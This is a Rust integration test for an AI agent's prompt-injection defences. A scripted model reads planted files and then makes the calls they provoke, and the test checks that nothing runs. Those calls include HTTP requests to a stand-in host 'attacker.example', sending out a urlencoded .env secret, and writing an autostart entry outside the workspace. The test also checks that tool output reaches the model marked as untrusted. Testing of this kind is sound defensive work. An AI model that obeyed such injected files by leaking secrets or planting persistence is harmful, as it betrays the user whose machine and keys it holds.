//! Prompt injection end to end (`../shared/oracles/security/injection/`): a
//! scripted model reads each planted file, then makes the calls the file
//! provokes, with every toggle on and a user who approves everything asked.
//! Nothing provoked runs, nothing leaves the machine without a question (the
//! audit shows each request asked, the dialog showed the exact request), no
//! setting or grant changes, and the file reached the model marked as
//! untrusted data.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::sync::Arc;

use common::*;
use jarvis_core::policy::ScriptedApprover;
use jarvis_core::tools::net::StaticResolver;
use jarvis_protocol::{ApprovalDecision, Event, ToolStatus};
use jarvis_testkit::{MockServer, Reply};
use serde_json::{Value, json};

const ENV_SECRET: &str = "sk-live-INJECTION-TEST-5e1d";
/// The attacker's host resolves to a public address, so only the turn's
/// taint, not the URL policy, stands between the request and the world.
const ATTACKER: &str = "attacker.example";
const PUBLIC_IP: &str = "93.184.216.34";

/// A user who answers "allow" to every question, and remembers them.
fn yes_to_everything() -> Arc<ScriptedApprover> {
    Arc::new(ScriptedApprover::new(std::iter::repeat_n(
        ApprovalDecision::AllowOnce,
        50,
    )))
}

fn resolver() -> Arc<StaticResolver> {
    Arc::new(StaticResolver::default().with(ATTACKER, &[PUBLIC_IP.parse().unwrap()]))
}

fn tool_name(oracle: &str) -> &str {
    match oracle {
        "shell_exec" => "local_exec",
        "file_read" => "local_read_file",
        "file_write" => "local_write_file",
        other => other,
    }
}

#[tokio::test]
async fn injected_files_provoke_nothing_that_runs() {
    let dir = jarvis_testkit::shared_dir().join("oracles/security/injection");
    let rows: Vec<Value> = std::fs::read_to_string(dir.join("expected_calls.jsonl"))
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(rows.len() >= 6);
    for row in &rows {
        let file = row["file"].as_str().unwrap();
        let expected = row["expected"].as_str().unwrap();
        let provoked: Vec<(String, String)> = row["provoked_calls"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                let mut args = c["args"].clone();
                if c["tool"] == "http_request" {
                    // Whatever happens once it is approved, do not wait long.
                    args["timeout_sec"] = json!(3);
                }
                let args = args
                    .to_string()
                    .replace("APPNAME", "jarvis")
                    .replace("<urlencoded .env>", "x");
                (tool_name(c["tool"].as_str().unwrap()).to_string(), args)
            })
            .collect();
        let calls: Vec<(String, &str, &str)> = provoked
            .iter()
            .enumerate()
            .map(|(i, (n, a))| (format!("p{i}"), n.as_str(), a.as_str()))
            .collect();
        let calls_ref: Vec<(&str, &str, &str)> = calls
            .iter()
            .map(|(id, n, a)| (id.as_str(), *n, *a))
            .collect();
        let read_args = json!({"path": file}).to_string();
        let server = MockServer::scripted(vec![
            Reply::tool_calls(&[("read", "local_read_file", &read_args)]),
            Reply::tool_calls(&calls_ref),
            Reply::text("Done."),
        ])
        .await
        .unwrap();
        // Every toggle on (the test setup's default), every question allowed.
        let approver = yes_to_everything();
        let mut e = env(Setup {
            resolver: Some(resolver()),
            ..Setup::new(server.base_url(), approver.clone())
        });
        std::fs::copy(dir.join(file), e.wd().join(file)).unwrap();
        std::fs::write(
            e.wd().join(".env"),
            format!("OPENAI_API_KEY={ENV_SECRET}\n"),
        )
        .unwrap();
        let config_before = std::fs::read_to_string(e.home.path().join("config.json")).unwrap();
        e.ask("s", &format!("please summarise {file}"));
        let events = e.until_finished("s").await;

        // The planted file reached the model as untrusted data, its forged tags defused.
        let second = server.chat_requests()[1].json();
        let read_result = second["messages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["tool_call_id"] == "read")
            .unwrap()["content"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(
            read_result.starts_with("<tool_output trust=\"untrusted\">"),
            "{file}"
        );
        assert_eq!(
            read_result.matches("</tool_output>").count(),
            1,
            "{file}: a forged closing tag survived"
        );

        // Every provoked call was stopped, whatever the user would have approved.
        let finished: Vec<(String, ToolStatus, String)> = events
            .iter()
            .filter_map(|ev| match ev {
                Event::ToolCallFinished {
                    call_id,
                    status,
                    summary,
                    ..
                } if call_id.starts_with('p') => Some((call_id.clone(), *status, summary.clone())),
                _ => None,
            })
            .collect();
        assert_eq!(
            finished.len(),
            provoked.len(),
            "{file}: every call answered"
        );
        let audit = e.brain.audit(50, None).unwrap();
        for ((id, status, summary), (tool, args)) in finished.iter().zip(&provoked) {
            let row = audit.iter().find(|a| a.call_id == *id).unwrap();
            if tool == "http_request" {
                // A file entered the turn: the request, public GET or not,
                // asked, and the question showed it whole.
                assert_eq!(row.verdict, "ask", "{file}: {args} → {}", row.reason);
                assert!(row.decided_by.starts_with("user"), "{file}: {args}");
                let url = serde_json::from_str::<Value>(args).unwrap()["url"]
                    .as_str()
                    .unwrap()
                    .to_string();
                assert!(
                    approver
                        .asked()
                        .iter()
                        .any(|q| q.tool == "http_request" && q.subject.contains(&url)),
                    "{file}: the dialog did not show {url}"
                );
                continue;
            }
            assert_ne!(
                *status,
                ToolStatus::Ok,
                "{file}: {tool} {args} ran: {summary}"
            );
            if expected.starts_with("block") && tool == "local_exec" {
                assert_eq!(row.verdict, "block", "{file}: {args} → {}", row.reason);
            }
        }
        // No secret reached the model, no setting or grant changed, nothing landed outside.
        for r in server.chat_requests() {
            assert!(
                !String::from_utf8_lossy(&r.body).contains(ENV_SECRET),
                "{file}: the .env secret leaked"
            );
        }
        assert_eq!(
            std::fs::read_to_string(e.home.path().join("config.json")).unwrap(),
            config_before,
            "{file}"
        );
        assert!(
            e.brain.grants().unwrap().is_empty(),
            "{file}: a grant appeared"
        );
        let escaped = e.wd().join("../../.config/autostart/update.desktop");
        assert!(!escaped.exists(), "{file}: the autostart entry was written");
    }
}

/// Runs one conversation of scripted `http_request` calls (id, args), every
/// question allowed: the audit rows and how many questions were asked.
async fn requests(calls: &[(&str, &str)]) -> (Vec<jarvis_core::store::AuditRow>, usize) {
    let mut script: Vec<Reply> = calls
        .iter()
        .map(|(id, args)| Reply::tool_calls(&[(id, "http_request", args)]))
        .collect();
    script.push(Reply::text("Done."));
    let server = MockServer::scripted(script).await.unwrap();
    let approver = yes_to_everything();
    let mut e = env(Setup {
        resolver: Some(resolver()),
        ..Setup::new(server.base_url(), approver.clone())
    });
    e.ask("s", "fetch");
    e.until_finished("s").await;
    (e.brain.audit(10, None).unwrap(), approver.asked().len())
}

/// Data out: a public GET runs without a question only while nothing a tool
/// returned is in the conversation; the page it fetched is such content, so
/// the next request asks, and so does anything that is not a GET or HEAD.
#[tokio::test]
async fn a_public_get_runs_until_tool_content_enters_the_turn() {
    let get = json!({"url": format!("https://{ATTACKER}/a?x=1"), "timeout_sec": 3}).to_string();
    let post = json!({"method": "POST", "url": format!("https://{ATTACKER}/b"), "body": "hello", "timeout_sec": 3}).to_string();
    let row = |audit: &[jarvis_core::store::AuditRow], id: &str| {
        audit.iter().find(|a| a.call_id == id).unwrap().clone()
    };
    let (audit, asked) = requests(&[("post", &post), ("first", &get), ("second", &get)]).await;
    assert_eq!(
        row(&audit, "post").verdict,
        "ask",
        "{:?}",
        row(&audit, "post")
    );
    // The POST's result (an answer, or the error) is tool content too.
    assert_eq!(
        row(&audit, "first").verdict,
        "ask",
        "{:?}",
        row(&audit, "first")
    );
    assert_eq!(asked, 3);

    // A fresh conversation: the first GET runs without a question, the
    // page it brought back makes the next one ask.
    let (audit, asked) = requests(&[("first", &get), ("second", &get)]).await;
    let (first, second) = (row(&audit, "first"), row(&audit, "second"));
    assert_eq!(
        (first.verdict.as_str(), first.decided_by.as_str()),
        ("allow", "policy"),
        "{first:?}"
    );
    assert_eq!(second.verdict, "ask", "{second:?}");
    assert!(second.reason.contains("content from a tool"), "{second:?}");
    assert_eq!(asked, 1);
}
